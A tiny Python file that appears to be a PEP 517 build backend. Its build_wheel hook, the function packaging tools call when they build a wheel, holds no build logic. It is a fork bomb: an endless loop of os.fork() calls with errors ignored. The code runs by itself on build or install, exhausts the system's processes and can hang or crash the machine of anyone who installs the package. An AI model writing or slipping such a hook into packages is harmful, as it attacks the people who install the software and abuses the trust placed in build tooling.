import os


def build_wheel(folder, config_settings=None, metadata_directory=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
